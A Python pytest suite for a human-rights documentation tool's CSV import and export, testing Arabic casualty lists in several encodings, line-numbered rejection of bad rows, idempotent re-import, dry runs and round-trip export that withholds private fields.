"""CSV import and export of records as a documentation team meets them: Arabic casualty
lists saved by Excel (UTF-8 with a BOM, or Windows-1256), refused whole with a line number
for every bad row, re-imported without duplicates, and exported in a form that imports
again unchanged into another vault."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from athar.errors import InputError
from athar.records import export, ids, schema
from athar.records.csvimport import ImportReport, RowProblem, import_csv
from athar.records.search import Filters
from athar.records.service import Records
from athar.records.values import parse_text
from athar.vault.vault import Vault
from conftest import ARABIC_TEXT, PASSPHRASE

PERSON_HEADER = [
    "id",
    "name_ar.given",
    "name_ar.father",
    "name_ar.family",
    "sex",
    "age",
    "status",
    "status.date",
    "status.place.name_ar",
]
# An organisation's own list: its ids, Arabic labels and English ids mixed, Arabic-Indic
# digits, a status for most people (line numbers: the header is line 1).
PEOPLE = [
    ["SY-DM-0001", "محمد", "أحمد", "الحلبي", "ذكر", "34", "قتيل", "2017-03-12", "دوما"],
    ["SY-DM-0002", "فاطمة الزهراء", "محمود", "العلي", "أنثى", "29", "معتقل", "2013-08", "حلب"],
    ["SY-DM-0003", "خالد", "عمر", "الدمشقي", "male", "", "", "", ""],
    ["SY-DM-0004", "زينب", "يوسف", "الإدلبي", "female", "١٢", "مفقود", "~2015", "ريف دمشق"],
]
INCIDENT_HEADER = ["title.ar", "date", "place.name_ar", "place.coordinates", "killed.total"]
INCIDENTS = [
    ["قصف سوق دوما الشعبي", "2017-03-12", "دوما", "33.5731,36.4019", "12-15"],
    ["برميل متفجر على حي الشعار", "2016-04", "حلب", "36.2021,37.1343", "7"],
    ["اقتحام حي بابا عمرو", "2012", "حمص", "", "20..30"],
]


def write_csv(
    path: Path,
    header: Sequence[str],
    rows: Sequence[Sequence[str]],
    encoding: str = "utf-8-sig",
) -> Path:
    buf = io.StringIO(newline="")
    writer = csv.writer(buf)
    writer.writerow(header)
    writer.writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def message(problem: RowProblem) -> str:
    return problem.template.format(**problem.params)


def by_ref(records: Records, ref: str) -> dict[str, Any]:
    """The person imported from the row with this id: its id is derived from the row's
    own id, the same on every device."""
    return records.get(ids.derived_id("person", "ref\x00" + ref)).data


@pytest.fixture
def local(vault: Vault) -> Iterator[Records]:
    """The vault's own encrypted store only: for tests about the file, not the database."""
    service = Records(vault)
    yield service
    service.close()


@pytest.fixture
def fresh_records(
    tmp_path: Path, store_url: str | None, request: pytest.FixtureRequest
) -> Iterator[Records]:
    """Another, empty vault on the same kind of store (its own database on PostgreSQL)."""
    vault = Vault.create(tmp_path / "other-vault", PASSPHRASE)
    server, database, url = None, None, None
    if store_url is not None:
        server = request.getfixturevalue("postgres_server")
        database = server.create_database(hint="fresh")
        url = server.url(database)
    service = Records(vault, url)
    yield service
    service.close()
    vault.close()
    if server is not None and database is not None:
        server.drop_database(database)


# -- 1. a UTF-8 list with a BOM, statuses in the same row -----------------------------------
def test_person_list_with_bom_and_status_columns(records: Records, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "ضحايا.csv", PERSON_HEADER, PEOPLE)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    report = import_csv(records, path, "person")
    assert isinstance(report, ImportReport)
    assert report.problems == []
    assert (report.encoding, report.rows, report.new, report.updated, report.unchanged) == (
        "utf-8-sig",
        4,
        4,
        0,
        0,
    )
    assert report.committed and not report.dry_run
    assert records.counts() == {"person": 4, "status": 3}

    found = records.find("محمد")
    assert [(r["type"], r["title"]) for r in found] == [("person", "محمد أحمد الحلبي")]
    assert found[0]["status"] == "killed"
    # Spelling variants match: no hamza, ة written as ه, the article dropped.
    assert [r["title"] for r in records.find("احمد", Filters(type="person"))] == [
        "محمد أحمد الحلبي"
    ]
    assert [r["title"] for r in records.find("فاطمه الزهراء")] == ["فاطمة الزهراء محمود العلي"]
    assert len(records.find("حلبي")) == 1

    # The status filter finds the status record and the person it belongs to.
    assert {r["type"] for r in records.find(None, Filters(status="killed"))} == {
        "person",
        "status",
    }
    killed = records.find(None, Filters(type="person", status="killed"))
    assert [r["title"] for r in killed] == ["محمد أحمد الحلبي"]
    detained = records.find(None, Filters(type="person", status="معتقل"))  # the Arabic label
    assert [r["title"] for r in detained] == ["فاطمة الزهراء محمود العلي"]

    person = records.get(killed[0]["id"])
    assert person.data["ref"] == "SY-DM-0001"
    assert person.data["sex"] == "male" and person.data["age"] == 34
    [status] = person.children
    assert status["type"] == "status"
    assert status["fields"]["status"] == "killed"
    assert status["fields"]["place.name_ar"] == "دوما"
    assert status["fields"]["date"] == {
        "start": "2017-03-12",
        "end": "2017-03-12",
        "precision": "day",
        "approximate": False,
    }
    zainab = by_ref(records, "SY-DM-0004")
    assert zainab["age"] == 12  # Arabic-Indic digits
    khaled = records.get(records.find("خالد")[0]["id"])
    assert khaled.children == []  # no status cells, no status record


# -- 2. importing the same list again -------------------------------------------------------
def test_reimport_is_idempotent_and_a_changed_cell_is_an_update(
    records: Records, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "list.csv", PERSON_HEADER, PEOPLE)
    import_csv(records, path, "person")
    size = records.vault.ledger.size()

    again = import_csv(records, path, "person")
    assert (again.new, again.updated, again.unchanged, again.problems) == (0, 0, 4, [])
    assert records.vault.ledger.size() == size
    assert records.counts() == {"person": 4, "status": 3}

    edited = [row[:] for row in PEOPLE]
    edited[0][5] = "35"  # محمد's age corrected
    report = import_csv(
        records, write_csv(tmp_path / "list-v2.csv", PERSON_HEADER, edited), "person"
    )
    assert (report.new, report.updated, report.unchanged, report.problems) == (0, 1, 3, [])
    assert records.vault.ledger.size() > size
    assert by_ref(records, "SY-DM-0001")["age"] == 35
    assert records.counts() == {"person": 4, "status": 3}


def test_rows_without_an_id_column_get_content_ids(local: Records, tmp_path: Path) -> None:
    """Without an id column a row's id is a digest of its content: the same file imports
    once, and an edited row is (by design) a different person, not an edit."""
    header = PERSON_HEADER[1:]
    rows = [row[1:] for row in PEOPLE]
    path = write_csv(tmp_path / "no-ids.csv", header, rows)
    assert import_csv(local, path, "person").new == 4
    size = local.vault.ledger.size()
    again = import_csv(local, path, "person")
    assert (again.new, again.unchanged) == (0, 4)
    assert local.vault.ledger.size() == size
    rows[2][4] = "41"
    edited = import_csv(local, write_csv(tmp_path / "edited.csv", header, rows), "person")
    assert (edited.new, edited.updated, edited.unchanged) == (1, 0, 3)
    # Two identical rows are one record said twice: refused, naming the first line.
    twice = write_csv(tmp_path / "twice.csv", header, [rows[0], rows[1], rows[0]])
    report = import_csv(local, twice, "person")
    assert [(p.line, p.column, message(p)) for p in report.problems] == [
        (4, "id", "the same record as line 2")
    ]


def test_a_changed_status_cell_is_reported_as_a_change(local: Records, tmp_path: Path) -> None:
    import_csv(local, write_csv(tmp_path / "a.csv", PERSON_HEADER, PEOPLE), "person")
    size = local.vault.ledger.size()
    edited = [row[:] for row in PEOPLE]
    edited[1][6] = "مفرج عنه"  # فاطمة was released
    path = write_csv(tmp_path / "b.csv", PERSON_HEADER, edited)
    dry = import_csv(local, path, "person", dry_run=True)
    report = import_csv(local, path, "person")
    assert local.vault.ledger.size() > size  # the status change is written …
    assert (dry.updated, dry.unchanged) == (1, 3)  # … so the report should say so
    assert (report.updated, report.unchanged) == (1, 3)


# -- 3. Windows-1256 -------------------------------------------------------------------
# Windows-1256 has no Arabic-Indic digits: Excel writes ASCII ones.
PEOPLE_1256 = [[cell.replace("١٢", "12") for cell in row] for row in PEOPLE]


def test_windows_1256_file(records: Records, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "excel-ar.csv", PERSON_HEADER, PEOPLE_1256, encoding="cp1256")
    raw = path.read_bytes()
    with pytest.raises(UnicodeDecodeError):
        raw.decode("utf-8")
    report = import_csv(records, path, "person")
    assert report.problems == []
    assert report.encoding == "cp1256"
    assert report.new == 4
    for row in PEOPLE:
        data = by_ref(records, row[0])
        assert (data["name_ar.given"], data["name_ar.father"], data["name_ar.family"]) == (
            row[1],
            row[2],
            row[3],
        )
    # The same list saved as UTF-8 is the same records: nothing new.
    utf8 = import_csv(records, write_csv(tmp_path / "u.csv", PERSON_HEADER, PEOPLE), "person")
    assert (utf8.new, utf8.unchanged) == (0, 4)


def test_explicit_encoding(local: Records, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "excel-ar.csv", PERSON_HEADER, PEOPLE_1256, encoding="cp1256")
    with pytest.raises(InputError) as caught:
        import_csv(local, path, "person", encoding="utf-8")
    assert str(caught.value) == "line 2 is not valid utf-8"
    with pytest.raises(InputError, match="unknown encoding latin-99"):
        import_csv(local, path, "person", encoding="latin-99")
    report = import_csv(local, path, "person", encoding="windows-1256")
    assert (report.encoding, report.new) == ("windows-1256", 4)
    assert local.counts() == {"person": 4, "status": 3}


# -- 4. two exports pasted together ----------------------------------------------------------
@pytest.mark.parametrize("bom", [False, True], ids=["no-bom", "bom"])
@pytest.mark.parametrize("utf8_first", [True, False], ids=["utf8-first", "cp1256-first"])
@pytest.mark.parametrize("newline", ["\n", "\r\n"], ids=["lf", "crlf"])
def test_mixed_encodings_are_refused(
    local: Records, tmp_path: Path, bom: bool, utf8_first: bool, newline: str
) -> None:
    header = b"id,name_ar.given,name_ar.family"
    utf8 = ["A1,محمد,الحلبي".encode(), "A2,فاطمة الزهراء,العلي".encode()]
    other = ["B1,خالد,الدمشقي".encode("cp1256"), "B2,زينب,الإدلبي".encode("cp1256")]
    lines = [header, b"A0,Ahmad,Test", *(utf8 + other if utf8_first else other + utf8)]
    data = (b"\xef\xbb\xbf" if bom else b"") + newline.encode().join(lines) + newline.encode()
    path = tmp_path / "pasted.csv"
    path.write_bytes(data)
    size = local.vault.ledger.size()
    with pytest.raises(InputError) as caught:
        import_csv(local, path, "person")
    utf8_line, other_line = (3, 5) if utf8_first else (5, 3)
    assert caught.value.params == {"utf8": utf8_line, "other": other_line}
    assert f"line {utf8_line} is UTF-8 but line {other_line} is not" in str(caught.value)
    assert local.vault.ledger.size() == size
    assert local.counts() == {}


def test_mixed_encodings_with_cr_line_endings_are_refused(local: Records, tmp_path: Path) -> None:
    path = tmp_path / "mac.csv"
    path.write_bytes(
        b"\r".join(
            [
                b"name_ar.given,name_ar.family",
                "محمد,الحلبي".encode(),
                "فاطمة,العلي".encode("cp1256"),
            ]
        )
    )
    with pytest.raises(InputError, match="mixes encodings"):
        import_csv(local, path, "person")
    assert local.counts() == {}


# -- 5. bad rows -----------------------------------------------------------------------------
BAD_ROWS = [
    pytest.param(
        "person",
        PERSON_HEADER,
        ["SY-DM-0009", "عمر", "خالد", "الحمصي", "ذكر", "40", "قتيل", "2017-02-30", "حمص"],
        "status.date",
        "2017-02-30 is not a real date",
        id="impossible-status-date",
    ),
    pytest.param(
        "incident",
        INCIDENT_HEADER,
        ["قصف مشفى", "2017-02-30", "إدلب", "", ""],
        "date",
        "2017-02-30 is not a real date",
        id="impossible-date",
    ),
    pytest.param(
        "incident",
        INCIDENT_HEADER,
        ["قصف مخبز", "2017-03-12", "دوما", "", "5-2"],
        "killed.total",
        "the maximum 2 is less than the minimum 5",
        id="impossible-range",
    ),
    pytest.param(
        "incident",
        INCIDENT_HEADER,
        ["حصار", "2017-03-12/2017-03-01", "دوما", "", ""],
        "date",
        "the range ends (2017-03-01) before it starts (2017-03-12)",
        id="end-before-start",
    ),
    pytest.param(
        "person",
        PERSON_HEADER,
        ["SY-DM-0009", "عمر", "خالد", "الحمصي", "xyz", "40", "", "", ""],
        "sex",
        "xyz is not a term of the sex vocabulary (see athar vocab sex)",
        id="unknown-term",
    ),
    pytest.param(
        "person",
        PERSON_HEADER,
        ["SY-DM-0009", "عمر", "خالد", "الحمصي", "ذكر", "40", "مخطوف", "", ""],
        "status",
        "مخطوف is not a term of the person_status vocabulary (see athar vocab person_status)",
        id="unknown-status-term",
    ),
    pytest.param(
        "incident",
        INCIDENT_HEADER,
        ["غارة", "2017-03-12", "دوما", "95,40", ""],
        "place.coordinates",
        "latitude 95 is outside −90…90",
        id="latitude-out-of-range",
    ),
    pytest.param(
        "incident",
        INCIDENT_HEADER,
        ["غارة", "2017-03-12", "دوما", "33.5,190", ""],
        "place.coordinates",
        "longitude 190 is outside −180…180",
        id="longitude-out-of-range",
    ),
    pytest.param(
        "person",
        PERSON_HEADER,
        ["SY-DM-0009", "عمر", "خالد", "الحمصي", "ذكر", "١٤٠", "", "", ""],
        "age",
        "140 is outside 0–130",
        id="age-in-arabic-digits-out-of-range",
    ),
    pytest.param(
        "person",
        PERSON_HEADER,
        ["SY-DM-0009", "", "", "", "ذكر", "40", "", "", ""],
        "name_ar.given",
        "a person needs one of: " + ", ".join(schema.PERSON_NAME_FIELDS),
        id="no-name",
    ),
    pytest.param(
        "person",
        PERSON_HEADER,
        ["SY-DM-0009", "عمر", "خالد", "الحمصي", "ذكر", "40", "", "2017-03-12", "حمص"],
        "status",
        "a status date or place needs a status",
        id="status-date-without-status",
    ),
    pytest.param(
        "person",
        PERSON_HEADER,
        ["inc-aaaaaaaaaaaaaaaa", "عمر", "خالد", "الحمصي", "ذكر", "40", "", "", ""],
        "id",
        "inc-aaaaaaaaaaaaaaaa is not the id of a person record",
        id="id-of-another-type",
    ),
    pytest.param(
        "person",
        PERSON_HEADER,
        ["SY-DM-0009", "عمر", "خالد", "الحمصي", "ذكر"],
        "",
        "expected 9 cells, found 5",
        id="too-few-cells",
    ),
    pytest.param(
        "person",
        PERSON_HEADER,
        ["SY-DM-0009", "عمر", "خالد", "الحمصي", "ذكر", "40", "", "", "", "زائد"],
        "",
        "expected 9 cells, found 10",
        id="too-many-cells",
    ),
]


@pytest.mark.parametrize(("type_name", "header", "bad", "column", "text"), BAD_ROWS)
def test_a_bad_row_is_reported_and_nothing_is_imported(
    records: Records,
    tmp_path: Path,
    type_name: str,
    header: list[str],
    bad: list[str],
    column: str,
    text: str,
) -> None:
    good = PEOPLE if type_name == "person" else INCIDENTS
    # The bad row is line 4, after a row whose cell spans two lines (lines 2–3).
    first = good[0][:]
    name = 1 if type_name == "person" else 0
    first[name] = first[name] + "\nسطر ثان"
    rows = [first, bad, *good[1:]]
    path = write_csv(tmp_path / "bad.csv", header, rows)
    size = records.vault.ledger.size()
    report = import_csv(records, path, type_name)
    assert [(p.line, p.column, message(p)) for p in report.problems] == [(4, column, text)]
    assert report.rows == len(rows)
    assert not report.committed and report.new == 0
    assert records.vault.ledger.size() == size
    assert records.counts() == {}
    as_json = report.problems[0].to_json()
    assert as_json == {"line": 4, "column": column, "message": text}


def test_duplicate_ids_name_both_lines(records: Records, tmp_path: Path) -> None:
    rows = [*PEOPLE, ["SY-DM-0002", "مريم", "علي", "النعسان", "أنثى", "8", "", "", ""]]
    size = records.vault.ledger.size()
    report = import_csv(records, write_csv(tmp_path / "dup.csv", PERSON_HEADER, rows), "person")
    assert [(p.line, p.column, message(p)) for p in report.problems] == [
        (6, "id", "duplicate id SY-DM-0002, also on line 3")
    ]
    assert records.vault.ledger.size() == size and records.counts() == {}


def test_every_bad_row_is_reported_in_line_order(local: Records, tmp_path: Path) -> None:
    rows = [row[:] for row in PEOPLE]
    rows[0][7] = "2017-13-01"
    rows[1][4] = "غير ذلك"
    rows[1][5] = "-3"
    rows[3][7] = "2099"
    report = import_csv(local, write_csv(tmp_path / "bad.csv", PERSON_HEADER, rows), "person")
    assert [(p.line, p.column) for p in report.problems] == [
        (2, "status.date"),
        (3, "sex"),
        (3, "age"),
        (5, "status.date"),
    ]
    assert message(report.problems[-1]) == "2099-01-01 is in the future"
    assert local.counts() == {}


def test_unknown_columns_are_named_and_can_be_mapped_or_ignored(
    records: Records, tmp_path: Path
) -> None:
    header = ["الرقم", "الاسم", "name_ar.family", "sex", "ملاحظات داخلية", "status"]
    rows = [
        ["1", "محمد", "الحلبي", "ذكر", "للفريق فقط", "قتيل"],
        ["2", "فاطمة الزهراء", "العلي", "أنثى", "", ""],
    ]
    path = write_csv(tmp_path / "org-list.csv", header, rows)
    size = records.vault.ledger.size()
    with pytest.raises(InputError) as caught:
        import_csv(records, path, "person")
    assert caught.value.params["columns"] == "الرقم, الاسم, ملاحظات داخلية"
    assert "--map COLUMN=FIELD" in str(caught.value) and "--ignore COLUMN" in str(caught.value)
    assert records.vault.ledger.size() == size
    with pytest.raises(InputError, match="columns that are not person fields: ملاحظات داخلية"):
        import_csv(records, path, "person", mapping={"الرقم": "id", "الاسم": "name_ar.given"})
    with pytest.raises(InputError, match=r"two columns map to name_ar\.family"):
        import_csv(records, path, "person", mapping={"الاسم": "name_ar.family"})

    report = import_csv(
        records,
        path,
        "person",
        mapping={"الرقم": "id", "الاسم": "name_ar.given"},
        ignore=["ملاحظات داخلية"],
    )
    assert (report.new, report.problems) == (2, [])
    data = by_ref(records, "1")
    assert data["name_ar.given"] == "محمد" and "note" not in data
    assert records.counts() == {"person": 2, "status": 1}


def test_files_that_are_not_csv_lists(local: Records, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="no such file"):
        import_csv(local, tmp_path / "missing.csv", "person")
    with pytest.raises(InputError, match="is a folder"):
        import_csv(local, tmp_path, "person")
    (tmp_path / "empty.csv").write_bytes(b"")
    with pytest.raises(InputError, match="the file is empty"):
        import_csv(local, tmp_path / "empty.csv", "person")
    (tmp_path / "photo.jpg").write_bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01")
    with pytest.raises(InputError, match="is not a text file"):
        import_csv(local, tmp_path / "photo.jpg", "person")
    with pytest.raises(InputError, match="unknown record type victim"):
        import_csv(local, write_csv(tmp_path / "p.csv", PERSON_HEADER, PEOPLE), "victim")
    header_only = write_csv(tmp_path / "header.csv", PERSON_HEADER, [])
    assert import_csv(local, header_only, "person").rows == 0
    (tmp_path / "open-quote.csv").write_text(
        'name_ar.given,note\nمحمد,"لم يغلق\n', encoding="utf-8"
    )
    with pytest.raises(InputError, match="line 2: unexpected end of data"):
        import_csv(local, tmp_path / "open-quote.csv", "person")
    assert local.counts() == {}


def test_an_empty_unnamed_column_from_excel_is_skipped(local: Records, tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_text("name_ar.given,name_ar.family,\nمحمد,الحلبي,\nفاطمة,العلي,\n", encoding="utf-8")
    assert import_csv(local, path, "person").new == 2


# -- 6. a long list with one bad row -------------------------------------------------------
GIVEN = ["محمد", "أحمد", "خالد", "عمر", "فاطمة", "زينب", "مريم", "يوسف", "علي", "حسن", "سارة"]
FAMILY = ["الحلبي", "الدمشقي", "الحمصي", "الإدلبي", "الشامي", "النعسان", "الخطيب", "العلي"]
PLACES = ["دوما", "حلب", "حمص", "إدلب", "داريا", "ريف دمشق", "دير الزور"]
BIG_ROWS = 100_000
BAD_LINE = 73_456


@pytest.mark.slow
def test_one_bad_row_in_a_hundred_thousand(vault: Vault, tmp_path: Path) -> None:
    lines = ["id,name_ar.given,name_ar.father,name_ar.family,sex,age,origin.name_ar\n"]
    for i in range(BIG_ROWS):
        sex = "ذكر" if i % 2 else "أنثى"
        lines.append(
            f"SN-{i:06d},{GIVEN[i % 11]},{GIVEN[(i // 11) % 11]},{FAMILY[i % 8]},"
            f"{sex},{i % 90},{PLACES[i % 7]}\n"
        )
    good_row = lines[BAD_LINE - 1]  # lines[0] is the header, line 1
    lines[BAD_LINE - 1] = _with_age(good_row, "٢٠٠")  # 200, in Arabic-Indic digits
    path = tmp_path / "big.csv"
    path.write_text("".join(lines), encoding="utf-8")

    with Records(vault) as records:
        size = records.vault.ledger.size()
        started = time.perf_counter()
        report = import_csv(records, path, "person")
        checking = time.perf_counter() - started
        assert [(p.line, p.column, message(p)) for p in report.problems] == [
            (BAD_LINE, "age", "200 is outside 0–130")
        ]
        assert report.rows == BIG_ROWS and not report.committed
        assert records.vault.ledger.size() == size
        assert records.counts() == {}

        lines[BAD_LINE - 1] = good_row
        path.write_text("".join(lines), encoding="utf-8")
        started = time.perf_counter()
        report = import_csv(records, path, "person")
        importing = time.perf_counter() - started
        assert report.problems == []
        assert (report.new, report.updated, report.unchanged) == (BIG_ROWS, 0, 0)
        assert records.vault.ledger.size() > size
        size = records.vault.ledger.size()
        assert records.counts() == {"person": BIG_ROWS}

        started = time.perf_counter()
        again = import_csv(records, path, "person")
        reimporting = time.perf_counter() - started
        assert (again.new, again.unchanged) == (0, BIG_ROWS)
        assert records.vault.ledger.size() == size
    print(
        f"\n100k rows: checked (refused) in {checking:.1f} s; imported in {importing:.1f} s "
        f"({BIG_ROWS / importing:,.0f} rows/s); re-imported (no change) in {reimporting:.1f} s"
    )


def _with_age(row: str, age: str) -> str:
    cells = row.rstrip("\n").split(",")
    cells[5] = age
    return ",".join(cells) + "\n"


# -- 7. dry run --------------------------------------------------------------------------
def test_dry_run_reports_and_changes_nothing(records: Records, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "list.csv", PERSON_HEADER, PEOPLE)
    size = records.vault.ledger.size()
    dry = import_csv(records, path, "person", dry_run=True)
    assert dry.summary() == {
        "file": str(path),
        "type": "person",
        "encoding": "utf-8-sig",
        "rows": 4,
        "new": 4,
        "updated": 0,
        "unchanged": 0,
        "problems": 0,
        "committed": False,
        "dry_run": True,
    }
    assert records.vault.ledger.size() == size and records.counts() == {}

    import_csv(records, path, "person")
    size = records.vault.ledger.size()
    edited = [row[:] for row in PEOPLE]
    edited[2][2] = "عمار"  # خالد's father's name corrected
    edited.append(["SY-DM-0005", "يوسف", "حسن", "الخطيب", "ذكر", "17", "نازح", "2018", "إدلب"])
    path2 = write_csv(tmp_path / "list-v2.csv", PERSON_HEADER, edited)
    dry = import_csv(records, path2, "person", dry_run=True)
    assert (dry.new, dry.updated, dry.unchanged, dry.committed) == (1, 1, 3, False)
    assert records.vault.ledger.size() == size
    assert by_ref(records, "SY-DM-0003")["name_ar.father"] == "عمر"
    assert records.counts() == {"person": 4, "status": 3}

    bad = [*edited, ["SY-DM-0006", "سارة", "", "", "أنثى", "x", "", "", ""]]
    dry = import_csv(
        records, write_csv(tmp_path / "bad.csv", PERSON_HEADER, bad), "person", dry_run=True
    )
    assert [(p.line, p.column) for p in dry.problems] == [(7, "age")]
    assert records.vault.ledger.size() == size


# -- 8. export, and import into another vault ------------------------------------------------
def make_archive(records: Records) -> dict[str, list[str]]:
    """A small archive with every type, dates of every precision, ranges, coordinates,
    term lists, private fields, links and a deleted record."""
    source = records.create(
        "source",
        {
            "name": "أبو محمد الدوماني",
            "type": "شاهد عيان",
            "organisation": "مركز توثيق الانتهاكات",
            "reliability": "B",
            "credibility": "2",
            "protection": "confidential",
            "contact": "+963 944 000 000 (واتساب)",
        },
    )
    market = records.create(
        "incident",
        {
            "title.ar": "قصف سوق دوما الشعبي",
            "title.en": "Shelling of Douma market",
            "description.ar": 'سقطت ثلاث قذائف قرب "الفرن"، والناس ينتظرون الخبز.\nثم غارة ثانية.',
            "date": "2017-03-12",
            "place.name_ar": "دوما",
            "place.name_latin": "Douma",
            "place.admin_area": "ريف دمشق",
            "place.coordinates": "33.5731,36.4019,500",
            "violations": "استهداف سوق، هجوم عشوائي",
            "weapons": "airstrike;artillery_shelling",
            "perpetrator.category": "government_forces",
            "perpetrator.confidence": "likely",
            "killed.children": "3",
            "killed.women": "2-4",
            "killed.total": "12-15",
            "injured.total": "30..40",
            "grading": "confirmed",
            "ref": "VDC-2017-0312",
        },
    )
    siege = records.create(
        "incident",
        {
            "title.ar": "حصار داريا",
            "date": "~2012-11-08/2016-08-26",
            "place.name_ar": "داريا",
            "violations": "siege_starvation",
        },
    )
    aleppo = records.create(
        "incident",
        {
            "title.ar": "برميل متفجر على حي الشعار",
            "date": "2016-04",
            "place.name_ar": "حلب",
            "place.coordinates": "36.2021,37.1343",
            "weapons": "barrel_bomb",
        },
    )
    homs = records.create(
        "incident",
        {"title.en": "Baba Amr", "date": "~2012", "place.coordinates": "34.7199,36.6939"},
    )
    person = records.create(
        "person",
        {
            "name_ar.given": "محمد",
            "name_ar.father": "أحمد",
            "name_ar.family": "الحلبي",
            "name_latin.full": "Mohammad Ahmad al-Halabi",
            "sex": "ذكر",
            "age": "34",
            "age_group": "adult",
            "birth_year": "1983",
            "origin.name_ar": "دوما",
            "origin.admin_area": "ريف دمشق",
            "protection": "public",
        },
    )
    child = records.create(
        "person",
        {"name_ar.full": "فاطمة الزهراء العلي", "sex": "أنثى", "age": "٩", "age_group": "طفل"},
    )
    status = records.create(
        "status",
        {
            "person": person,
            "status": "killed",
            "date": "12/03/2017",
            "place.name_ar": "دوما",
            "source": source,
            "incident": market,
        },
    )
    detained = records.create(
        "status",
        {"person": child, "status": "معتقل", "date": "2013-08", "place.name_ar": "حلب"},
    )
    testimony = records.create(
        "testimony",
        {
            "text": ARABIC_TEXT,
            "language": "ar",
            "date": "2017-04-02",
            "interviewer": "ن. ح.",
            "source": source,
            "consent": "record_only",
            "consent.date": "2017-04-02",
            "consent.note": "وافق شفهياً، بشرط عدم ذكر الاسم",
        },
    )
    claim = records.create(
        "claim",
        {
            "party": "وزارة الدفاع",
            "party.category": "government_forces",
            "text.ar": "استهدفنا مقرات إرهابية",
            "date": "2017-03-13",
            "claimed.killed": "0",
            "url": "https://example.org/statement?id=1,2",
            "incident": market,
        },
    )
    missing = records.create(
        "missing",
        {
            "person": child,
            "reporter.name": "أم محمد",
            "reporter.contact": "+90 555 000 0000",
            "reporter.relationship": "أم",
            "last_seen.date": "2014-05",
            "last_seen.place.name_ar": "حاجز القطيفة",
            "circumstances": "اعتقلت على الحاجز، ولم ترد أخبار منذ ذلك الحين",
            "resolved": "لا",
        },
    )
    gone = records.create("incident", {"title.ar": "سجل أدخل خطأً"})
    records.delete(gone)
    records.link(market, "victim", person, attrs={"role": "killed"})
    records.link(market, "source", source)
    records.link(market, "claim", claim)
    return {
        "source": [source],
        "incident": [market, siege, aleppo, homs],
        "person": [person, child],
        "status": [status, detained],
        "testimony": [testimony],
        "claim": [claim],
        "missing": [missing],
        "deleted": [gone],
    }


# Referenced records first: statuses need their person, testimonies their source, …
IMPORT_ORDER = ("source", "incident", "person", "status", "testimony", "claim", "missing")
PRIVATE = {
    ("source", "contact"),
    ("testimony", "interviewer"),
    ("missing", "reporter.name"),
    ("missing", "reporter.contact"),
}


def public(type_name: str, data: dict[str, Any]) -> dict[str, Any]:
    kind = schema.TYPES[type_name]
    return {k: v for k, v in data.items() if not kind.fields[k].private}


def export_csv(
    records: Records,
    folder: Path,
    include_private: bool = False,
    types: Sequence[str] = IMPORT_ORDER,
) -> dict[str, Path]:
    folder.mkdir(exist_ok=True)
    out = {}
    for type_name in types:
        path = folder / f"{type_name}.csv"
        with path.open("w", encoding="utf-8", newline="") as handle:
            export.export(records, "csv", handle, type_name, include_private)
        out[type_name] = path
    return out


def test_csv_export_imports_unchanged_into_another_vault(
    records: Records, fresh_records: Records, tmp_path: Path
) -> None:
    made = make_archive(records)
    assert "contact" in records.get(made["source"][0]).data
    files = export_csv(records, tmp_path / "export")

    header = next(csv.reader(files["source"].open(encoding="utf-8")))
    assert header[0] == "id" and "contact" not in header
    header = next(csv.reader(files["missing"].open(encoding="utf-8")))
    assert "reporter.name" not in header and "reporter.contact" not in header

    for type_name in IMPORT_ORDER:
        report = import_csv(fresh_records, files[type_name], type_name)
        assert report.problems == [], (type_name, report.problems)
        assert (report.new, report.updated, report.unchanged) == (len(made[type_name]), 0, 0)
    assert fresh_records.counts() == {t: len(made[t]) for t in IMPORT_ORDER}
    for type_name in IMPORT_ORDER:
        for record_id in made[type_name]:
            original = records.get(record_id).data
            copy = fresh_records.get(record_id).data
            assert copy == public(type_name, original), (type_name, record_id)
    assert not fresh_records.exists(made["deleted"][0])

    # Private fields come across only when asked for: then the copy is complete.
    private = export_csv(records, tmp_path / "private", include_private=True)
    assert "contact" in next(csv.reader(private["source"].open(encoding="utf-8")))
    updated = 0
    for type_name in IMPORT_ORDER:
        report = import_csv(fresh_records, private[type_name], type_name)
        assert report.problems == [] and report.new == 0
        updated += report.updated
    assert updated == 3  # the source, the testimony, the missing-person report
    for type_name in IMPORT_ORDER:
        for record_id in made[type_name]:
            assert fresh_records.get(record_id).data == records.get(record_id).data

    # Importing the public export back into the original vault changes nothing: a missing
    # column does not clear the private values.
    size = records.vault.ledger.size()
    for type_name in IMPORT_ORDER:
        report = import_csv(records, files[type_name], type_name)
        assert (report.new, report.updated) == (0, 0), type_name
    assert records.vault.ledger.size() == size
    assert records.get(made["source"][0]).data["contact"] == "+963 944 000 000 (واتساب)"


def test_exported_values_are_typed_back_as_written(records: Records) -> None:
    made = make_archive(records)
    buf = io.StringIO()
    assert export.export(records, "csv", buf, "incident") == 4
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(buf.getvalue()))}
    market, siege, aleppo, homs = (rows[i] for i in made["incident"])
    assert market["date"] == "2017-03-12"
    assert market["place.coordinates"] == "33.5731,36.4019,500"
    assert market["violations"] == "attack_on_market,indiscriminate_attack"
    assert market["weapons"] == "airstrike,artillery_shelling"
    assert (market["killed.women"], market["killed.total"], market["injured.total"]) == (
        "2-4",
        "12-15",
        "30-40",
    )
    assert market["description.ar"].count("\n") == 1
    assert siege["date"] == "~2012-11-08/2016-08-26"
    assert aleppo["date"] == "2016-04"
    assert homs["date"] == "~2012" and homs["place.coordinates"] == "34.7199,36.6939"
    assert made["deleted"][0] not in rows
    buf = io.StringIO()
    export.export(records, "csv", buf, "missing")
    [row] = csv.DictReader(io.StringIO(buf.getvalue()))
    assert row["resolved"] == "no" and row["last_seen.date"] == "2014-05"
    with pytest.raises(InputError, match="one record type"):
        export.export(records, "csv", io.StringIO())
    with pytest.raises(InputError, match="unknown export format xlsx"):
        export.export(records, "xlsx", io.StringIO())


